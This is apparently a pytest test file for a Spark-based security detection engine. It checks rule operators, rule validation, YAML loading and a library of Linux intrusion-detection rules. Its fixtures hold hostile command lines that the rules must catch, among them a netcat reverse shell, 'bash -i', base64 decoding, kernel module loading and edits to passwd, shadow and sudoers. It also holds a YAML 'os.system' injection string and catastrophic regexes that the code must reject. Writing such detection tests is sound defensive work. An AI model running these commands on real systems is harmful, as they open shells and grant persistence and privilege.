"""Conditions against a truth table, the grammar's checks, and the rule library."""

import re
from datetime import datetime

import pytest
from pyspark.sql import functions as F

from watchloom import schemas
from watchloom.operators import detect
from watchloom.operators.compile import Compiler, to_java
from watchloom.sources.rules import RuleError, load_rules, parse_condition, parse_rule

MISSING = object()
#: What a field may hold, with the type of its column (None: the column is absent).
HELD = [("kernel", "string"), ("Kern", "string"), ("", "string"), ("7", "string"), (None, "string"), (7, "int"), (-3, "int"), (None, "int"), (7.0, "double"), (2.5, "double"), (True, "boolean"), (False, "boolean"), (["kern", "7"], "array<string>"), ([7, 9], "array<int>"), (None, "array<int>"), (MISSING, None)]
ASKED = ["kern", "KERNEL", "el", "7", "", 7, 2.5, True, 0]
LISTS = [["kern", "7"], [7, 9], ["kernel", 7], [True, "x"]]
NUMBER = (int, float)


def plain(op, actual, value):
    """What an operator says of a field, by the rule's own words: text, numbers and truth values are
    compared with their like (a truth value counts as 0 or 1), and what is missing matches nothing."""
    held = None if actual is MISSING else actual
    if op.startswith("not_"):
        return not plain({"not_equals": "equals", "not_contains": "contains", "not_in": "in"}[op], actual, value)
    if op == "equals":
        return held is not None and held == value
    if op == "in":
        return held is not None and not isinstance(held, list) and held in value
    if op == "contains":
        return (isinstance(held, str) and isinstance(value, str) and value in held) or (isinstance(held, list) and value in held)
    if op in ("startswith", "endswith", "regex"):
        if not isinstance(held, str) or not isinstance(value, str):
            return False
        return {"startswith": held.startswith, "endswith": held.endswith, "regex": lambda v: re.search(v, held, re.I) is not None}[op](value)
    ordered = all(isinstance(x, NUMBER) and not isinstance(x, bool) for x in (held, value))
    return ordered and {"gt": held > value, "gte": held >= value, "lt": held < value, "lte": held <= value}[op] if ordered else False


CASES = [(op, v) for op in ("equals", "not_equals", "contains", "not_contains", "gt", "gte", "lt", "lte") for v in ASKED] + [(op, v) for op in ("startswith", "endswith", "regex") for v in ("kern", "KERNEL", "el", "7", "^k.*L$")] + [(op, v) for op in ("in", "not_in") for v in LISTS]


@pytest.mark.parametrize(("actual", "kind"), HELD, ids=str)
def test_operators_against_the_model(spark, actual, kind):
    df = spark.range(1).select(F.lit(1).alias("other")) if actual is MISSING else spark.createDataFrame([(actual,)], f"a {kind}")
    compiler = Compiler(df.schema, spark)
    cases = [(op, v) for op, v in CASES if not (isinstance(actual, list) and op in ("equals", "not_equals", "in", "not_in"))]
    got = df.select(*[compiler(parse_condition({"field": "a", "op": op, "value": v})).alias(f"c{i}") for i, (op, v) in enumerate(cases)]).first()
    wrong = [(op, v, r) for (op, v), r in zip(cases, got, strict=True) if r is not plain(op, actual, v)]
    assert not wrong


@pytest.mark.parametrize(("pattern", "text", "matches"), [("\\bz\\sq\\b", "a z\u00a0q", True), ("^[0-7]{4}$", "1234\r\n", False), ("q.r", "q\rr", True), ("ß|é", "CAFÉ", True)])
def test_patterns_see_unicode_and_whole_ends(spark, pattern, text, matches):
    df = spark.createDataFrame([(text,)], "a string")
    assert df.select(Compiler(df.schema, spark)(parse_condition({"field": "a", "op": "regex", "value": pattern})).alias("r")).first().r is matches


def test_groups_and_nested_fields(spark):
    df = spark.createDataFrame([(("x", 5),), (("y", 1),), (None,)], "a struct<b:string,c:int>")
    leaf = lambda f, op, v: {"field": f, "op": op, "value": v}
    cases = [({"all": [leaf("a.b", "equals", "x"), leaf("a.c", "gt", 2)]}, [True, False, False]), ({"any": [leaf("a.b", "equals", "y"), leaf("a.c", "gt", 2)]}, [True, True, False]), ({"not": leaf("a.b", "equals", "x")}, [False, True, True]), (leaf("a", "equals", "x"), [False] * 3), (leaf("a", "not_equals", "x"), [True] * 3), (leaf("a.b.c", "equals", "x"), [False] * 3)]
    for node, want in cases:
        assert [r[0] for r in df.select(Compiler(df.schema, spark)(parse_condition(node))).collect()] == want


def test_timestamps_compare_as_text(spark):
    df = spark.createDataFrame([(datetime(2026, 6, 17, 12),)], "timestamp timestamp")
    node = parse_condition({"field": "timestamp", "op": "equals", "value": "2026-06-17T12:00:00Z"})
    assert df.select(Compiler(df.schema, spark)(node)).first()[0]


def test_hostile_patterns_leave_the_jvm(spark):
    assert to_java(spark, "(x+x+)+y") is None
    assert to_java(spark, "(a|a|a)*$") is None
    assert to_java(spark, r"(?P<n>a)b") is not None
    df = spark.createDataFrame([("x" * 36,), ("xxy",)], "a string")
    got = [r[0] for r in df.select(Compiler(df.schema, spark)(parse_condition({"field": "a", "op": "regex", "value": "(x+x+)+y"}))).collect()]
    assert got == [False, True]


GOOD = {"id": "a-1", "title": "t", "description": "d", "severity": 3, "attack": ["T1059.004"], "nist_csf": ["DE.CM"], "condition": {"field": "a", "op": "equals", "value": 1}}


@pytest.mark.parametrize("change", [{"id": "A"}, {"id": "a-"}, {"severity": 8}, {"severity": True}, {"attack": ["T1"]}, {"attack": ["T1059\n"]}, {"attack": []}, {"nist_csf": ["DE"]}, {"d3fend": ["X"]}, {"extra": 1}, {"condition": {}}, {"condition": {"all": []}}, {"condition": {"field": "a", "op": "in", "value": 1}}, {"condition": {"field": "a", "op": "equals", "value": [1]}}, {"condition": {"field": "a", "op": "regex", "value": "("}}, {"condition": {"field": "a", "op": "nope", "value": 1}}, {"throttle": {"window_seconds": 0}}, {"condition": {"not": {"threshold": {"match": GOOD["condition"], "window_seconds": 5, "count": 2, "group_by": "a"}}}}, {"condition": {"threshold": {"match": GOOD["condition"], "window_seconds": 5, "count": 1, "group_by": "a"}}}])
def test_bad_rules_are_rejected(change):
    parse_rule(GOOD)
    with pytest.raises(RuleError):
        parse_rule(GOOD | change)


def test_loader_fails_whole(tmp_path):
    import yaml

    (tmp_path / "a.yml").write_text(yaml.safe_dump(GOOD))
    assert [r.id for r in load_rules(tmp_path)] == ["a-1"]
    (tmp_path / "b.yaml").write_text(yaml.safe_dump(GOOD))
    with pytest.raises(RuleError, match="duplicate"):
        load_rules(tmp_path)
    (tmp_path / "b.yaml").write_text("- x")
    with pytest.raises(RuleError):
        load_rules(tmp_path)
    (tmp_path / "b.yaml").write_text("x: !!python/object:os.system {}")
    with pytest.raises(RuleError):
        load_rules(tmp_path)


def event(spark, **parts):
    base = {"timestamp": datetime(2026, 1, 1), "event": {"id": "i", "action": parts.pop("action", "x"), "severity": 1}, "host": {"name": "h"}, "source": {}, "destination": {}, "process": {}, "file": None, "message": "m"}
    return base | parts


POSITIVE = {
    "account-creation": {"process": {"command_line": "/usr/sbin/useradd x"}}, "base64-execution": {"process": {"command_line": "echo x | base64 -d"}}, "c2-beacon-port": {"action": "network_connection_opened", "destination": {"port": 4444}}, "cron-persistence": {"file": {"path": "/etc/cron.d/x"}},
    "interactive-shell-spawn": {"action": "process_started", "process": {"command_line": "bash -i"}}, "kernel-module-load": {"process": {"command_line": "insmod x.ko"}}, "log-tampering": {"action": "file_deleted", "file": {"path": "/var/log/a"}}, "new-listening-service": {"action": "network_listen_started", "source": {"port": 4000}},
    "new-suid-binary": {"action": "file_created", "file": {"path": "/x", "mode": "4755"}}, "passwd-file-modified": {"action": "file_modified", "file": {"path": "/etc/passwd"}}, "reverse-shell-process": {"process": {"command_line": "nc 1.2.3.4 9 -e /bin/sh"}}, "shadow-file-modified": {"file": {"path": "/etc/gshadow"}},
    "ssh-root-login": {"action": "ssh_login_succeeded", "source": {"user": "root"}}, "sudoers-modified": {"file": {"path": "/etc/sudoers.d/a"}}, "suspicious-tmp-exec": {"action": "process_started", "process": {"executable": "/dev/shm/a"}}, "world-writable-sensitive": {"file": {"path": "/etc/x", "mode": "0666"}},
}


def test_library(spark):
    rules = load_rules()
    assert len(rules) == 17 and {r.id for r in rules} == {*POSITIVE, "ssh-brute-force"}
    names = [*POSITIVE, "quiet", *["ssh-brute-force"] * 5]
    rows = [event(spark, **POSITIVE[n]) if n in POSITIVE else event(spark, action="ssh_login_failed" if n == "ssh-brute-force" else "x", source={"ip": "1.2.3.4"}) for n in names]
    for i, (r, n) in enumerate(zip(rows, names, strict=True)):
        r["event"] = r["event"] | {"id": f"{n}#{i}"}
    got = detect.evaluate(spark.createDataFrame(rows, schemas.EVENT), rules).collect()
    fired = {(r.event_id.split("#")[0], r.rule_id) for r in got}
    assert {(n, n) for n in POSITIVE} | {("ssh-brute-force", "ssh-brute-force")} <= fired
    assert fired - {(n, n) for n in {*POSITIVE, "ssh-brute-force"}} == {("interactive-shell-spawn", "reverse-shell-process")}
    assert sum(r.rule_id == "ssh-brute-force" for r in got) == 1
    assert re.match(r".* \[T1110\] — ssh_login_failed on h", next(r.message for r in got if r.rule_id == "ssh-brute-force"))


def test_one_scan_with_pushed_filters(spark, tmp_path):
    rows = [event(spark, **POSITIVE["log-tampering"]), event(spark, **POSITIVE["c2-beacon-port"])]
    spark.createDataFrame(rows, schemas.EVENT).write.parquet(str(tmp_path / "e"))
    rules = [r for r in load_rules() if r.id in ("log-tampering", "c2-beacon-port")]
    df = detect.evaluate(spark.read.parquet(str(tmp_path / "e")), rules)
    assert df.count() == 2
    plan = df._jdf.queryExecution().executedPlan().toString()
    assert plan.count("FileScan") == 1 and "In(event.action, [file_deleted,network_connection_opened])" in plan
    assert "Join" not in plan and "Exchange" not in plan and "outcome" not in plan.split("ReadSchema")[1]


def test_a_threshold_fold_carries_no_rule_texts(spark, monkeypatch):
    """each row of a busy group took its rule's title, ids and message along, and its event's id three times."""
    rows = [(datetime(2024, 1, 1, 0, 0, i), (f"e{i}", "ssh_login_failed"), ("h",), ("1.2.3.4",)) for i in range(11)] + [(datetime(2024, 1, 1), ("r", "other"), ("h",), ("9",))]
    events = spark.createDataFrame(rows, "timestamp timestamp, event struct<id:string,action:string>, host struct<name:string>, source struct<ip:string>")
    base = {"description": "d", "severity": 3, "attack": ["T1110", "T1078"], "nist_csf": ["DE.CM"], "title": "A title"}
    failed = {"field": "event.action", "op": "equals", "value": "ssh_login_failed"}
    rules = [parse_rule({**base, "id": "many", "condition": {"threshold": {"match": failed, "window_seconds": 60, "count": 5, "group_by": "source.ip"}}}), parse_rule({**base, "id": "one", "severity": 5, "condition": {"field": "event.id", "op": "equals", "value": "r"}})]
    moved, fold = [], detect.folds.ordered_fold
    monkeypatch.setattr(detect.folds, "ordered_fold", lambda df, *a, **k: (moved.append(df), fold(df, *a, **k))[1])
    got = detect.evaluate(events, rules)
    assert got.columns == schemas.DETECTION.names and [f.dataType for f in got.schema] == [f.dataType for f in schemas.DETECTION]
    assert sorted((r.rule_id, r.severity, r.event_id, r.message) for r in got.collect()) == [("many", 3, "e4", "A title [T1110,T1078] — ssh_login_failed on h"), ("many", 3, "e9", "A title [T1110,T1078] — ssh_login_failed on h"), ("one", 5, "r", "A title [T1110,T1078] — other on h")]
    assert {f.dataType.typeName() for f in moved[0].schema} <= {"string", "integer", "timestamp"} and not {"title", "message"} & set(moved[0].columns)
